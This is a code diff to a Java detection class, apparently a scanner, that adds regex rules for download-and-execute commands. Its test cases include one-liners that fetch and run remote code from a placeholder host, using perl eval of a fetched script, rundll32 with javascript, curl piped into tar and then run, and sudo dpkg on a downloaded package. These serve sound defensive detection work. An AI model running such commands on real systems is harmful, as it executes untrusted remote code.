@@ -132,7 +132,7 @@ final class DownloadRules {
                       + PIPE
                       + PRIVILEGE
                       + SHELL)
-              .finds("(?i:\\b(?:iex|invoke-expression)\\b[\\s(&\"'${\\\\]*" + WEB_CMDLET + ")")
+              .finds("(?i:\\b(?:iex|invoke-expression)\\b[\\s()&\"'${\\\\]*" + WEB_CMDLET + ")")
               .finds(
                   "(?i:\\b(?:irm|iwr|invoke-webrequest|invoke-restmethod|downloadstring)\\b"
                       + LINE
@@ -235,7 +235,8 @@ final class DownloadRules {
                       + AND_THEN
                       + SUDO
                       + "(?:(?:ba|z|da)?sh\\s+)?(?:/tmp|/dev/shm|/var/tmp)/")
-              .finds("\\bLWP::Simple\\b[^\\n]*\\beval[\\s(]+get\\b")
+              .finds("LWP::Simple\\b[^\\n]*\\beval[\\s(]+get\\b")
+              .finds("(?i:\\brundll32(?:\\.exe)?\\s[^\\n]*(?:javascript|vbscript):)")
               .finds("(?i:\\bmsiexec(?:\\.exe)?\\s[^\\n]*https?://)")
               .finds(
                   "(?i:\\bstart-bitstransfer\\s[^\\n]*;\\s*(?:start-process|invoke-item|&|\\.\\\\))")
@@ -254,6 +255,8 @@ final class DownloadRules {
                       + LINE
                       + "(?:;|\\n|&)\\s*(?:start-process|saps\\b|invoke-item|&|\\.\\\\|powershell|msiexec))")
               .matches(
+                  "perl -MLWP::Simple -e 'eval get(\"http://h.stage.example/i\")'",
+                  "rundll32.exe javascript:\"\\..\\mshtml,RunHTMLApplication\"",
                   "curl.exe -o a.bat https://h.stage.example/a.bat && a.bat",
                   "curl https://h.stage.example/a.tgz | tar xz -C /tmp && /tmp/a/run",
                   "sudo dpkg -i <(curl -s https://h.stage.example/a.deb)",
